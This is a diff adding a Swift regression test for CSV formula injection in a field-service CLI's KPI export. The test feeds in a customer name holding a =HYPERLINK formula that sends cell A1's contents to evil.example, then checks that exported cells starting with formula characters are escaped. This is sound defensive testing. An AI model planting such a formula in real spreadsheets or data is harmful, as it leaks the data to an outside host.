@@ -1,3 +1,4 @@
+import FieldSyncKPI
 import FieldSyncTestSupport
 import Foundation
 import Testing
@@ -55,6 +56,23 @@ import Testing
         #expect(todo.contains("fault restored") && todo.contains("4 h (VIP) default") && todo.contains("2026-11-17T13:00:00+08:00"))
         try ok(cli, "fault", "restore", fault, "--at", "2026-11-17T12:00+08:00")
         #expect(try ok(cli, "kpi", "todo").contains("Nothing is open past its limit."))
+    }
+
+    /// Issue 24, item 6: a customer named `=HYPERLINK(…)` reached the
+    /// supervisor's spreadsheet as a live formula through `kpi --csv` and
+    /// `kpi misses --csv`. Typed text that starts like a formula is now text.
+    @Test func csvCellsNeverStartAFormula() throws {
+        try ok(cli, "init", "--branch", "Hangzhou", "--user", "Li Wei")
+        let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Tower Co\")"
+        let customer = try ok(cli, "customer", "add", "--name", name, "--level", "vip")
+        let fault = try ok(cli, "fault", "report", customer, "--symptom", "alarm", "--reported-at", "2026-11-17T09:00+08:00")
+        try ok(cli, "fault", "feedback", fault, "--at", "2026-11-17T09:40+08:00")
+        let misses = try ok(cli, "kpi", "misses", "--period", "2026-W47", "--csv")
+        #expect(misses.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Tower Co\"\")\","), "\(misses)")
+        for cell in ["=", "+", "-", "@", "\t", "\r"] {
+            #expect(KPIText.field(cell + "1+1").hasPrefix("\"'"), "a cell starting with \(cell.debugDescription)")
+        }
+        #expect(KPIText.field("Li Wei") == "Li Wei" && KPIText.field("Wang, Fang") == "\"Wang, Fang\"")
     }
 
     /// A new user's day with issue 11's commands: a fault whose scope is learnt
